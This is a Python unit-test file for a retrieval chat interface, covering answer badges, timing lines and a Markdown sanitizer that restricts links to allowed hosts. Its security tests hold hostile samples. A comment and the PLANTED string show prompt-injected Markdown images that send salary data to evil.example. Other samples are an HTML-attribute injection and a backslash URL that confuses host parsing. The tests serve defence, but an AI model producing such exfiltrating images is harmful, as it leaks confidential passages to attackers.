"""How the chat labels an answer: badges for cache and degradation, the per-stage timing line, citation names."""

from __future__ import annotations

import pytest

from ragfn.core.uris import document_name
from ui.safe_markdown import SafeMarkdown
from ui.views import badges, plain, timing_line

pytestmark = pytest.mark.unit


def test_badges_say_cache_hit_each_degradation_and_inferred_sources() -> None:
    assert badges({"cache": "miss", "degraded": None}) == []
    assert badges({"cache": "hit"}) == [("cache hit", "green")]
    assert badges({"cache": "off", "degraded": "cache-unavailable+cold-start", "citations_inferred": True}) == [
        ("cache off", "gray"), ("degraded: cache unavailable", "orange"),
        ("degraded: model warming up: answered from the passages", "orange"),
        ("sources matched by ragfn: the model cited none", "violet")]
    assert badges({"degraded": "something-new"}) == [("degraded: something-new", "orange")]  # unknown: as is
    assert badges({"cache": "miss", "truncated": True}) == [("cut off at the token limit", "gray")]
    assert badges({"cache": "miss", "degraded": "ungrounded-answer"}) == [
        ("degraded: the model's answer was not supported by the passages: answered from them instead", "orange")]
    assert badges({"cache": "miss", "model": "backup", "provider": "fallback"}) == [
        ("answered by the fallback model backup", "blue")]


def test_the_timing_line_names_each_stage_and_the_total() -> None:
    assert timing_line({"cache": 3.2, "retrieve": 41.0, "generate": 1200.0}) == \
        "cache 3 ms · retrieve 41 ms · generate 1.20 s · total 1.24 s"
    assert timing_line({"cache": 1.0, "cache_store": 2.0}) == "cache 1 ms · cache write 2 ms · total 3 ms"
    assert timing_line({}) == ""


def test_sources_link_only_to_allowed_hosts() -> None:
    safe = SafeMarkdown(frozenset({"docs.example.com"}))
    assert safe.link("https://docs.example.com/a.html") == (
        '<a href="https://docs.example.com/a.html" rel="noopener noreferrer nofollow" target="_blank">'
        "https://docs.example.com/a.html</a>")
    assert safe.link("https://elsewhere.example/a.html") == "<code>https://elsewhere.example/a.html</code>"
    assert safe.link("s3://bucket/team docs/faq.md") == "<code>s3://bucket/team docs/faq.md</code>"
    assert safe.link('https://x/"><img src=y>') == "<code>https://x/&quot;&gt;&lt;img src=y&gt;</code>"
    # a browser reads the backslash as "/" and goes to evil.example; urlparse would say docs.example.com
    assert safe.link("https://evil.example\\@docs.example.com/") == "<code>https://evil.example\\@docs.example.com/</code>"
    assert document_name("file:///srv/docs/sorting.md") == "sorting.md" and document_name("gs://b/") == "b"




# Security: answers, headings and sources were Markdown in the page, so a planted document could make the model
# write an image whose address carries the passages a privileged reader was shown, and the browser fetched it.
PLANTED = ("Salaries are reviewed in spring [1]. ![status](https://evil.example/c?d=salary-bands) "
           "[details](https://evil.example/x) <img src=https://evil.example/y.png> "
           "![][logo]\n\n[logo]: https://evil.example/z.png")


def test_an_answer_never_loads_an_image_or_links_off_the_allowlist() -> None:
    html = SafeMarkdown(frozenset({"docs.example.com"})).html(PLANTED)
    assert "<img" not in html and 'href="https://evil' not in html and "src=" not in html.replace("&lt;img src", "")
    assert "[image: status]" in html and "<code>https://evil.example/x</code>" in html
    assert "Salaries are reviewed in spring [1]." in html


def test_the_chat_shows_answers_and_citations_without_markdown() -> None:
    from streamlit.testing.v1 import AppTest

    def page(planted: str) -> None:
        from ui.safe_markdown import SafeMarkdown
        from ui.views import render_citations, render_markdown

        safe = SafeMarkdown()
        render_markdown(planted, safe)
        render_citations([{"n": 1, "source": "https://evil.example/![x](https://evil.example/l.png)",
                           "heading_path": "Pay > ![h](https://evil.example/h.png)", "text": "bands"}], safe)

    at = AppTest.from_function(page, args=(PLANTED,)).run()
    assert not at.exception and not at.markdown
    shown = " ".join(element.value for element in at.get("html"))
    assert "<img" not in shown and 'href="https://evil' not in shown and "[image: status]" in shown
    label = at.get("popover")[0].proto.popover.label
    assert label.startswith("[1] ") and "![" not in label.replace("\\!\\[", "")


def test_plain_escapes_every_markdown_character() -> None:
    assert plain("![a](http://x) **b** key:dev.md") == "\\!\\[a\\]\\(http://x\\) \\*\\*b\\*\\* key:dev.md"
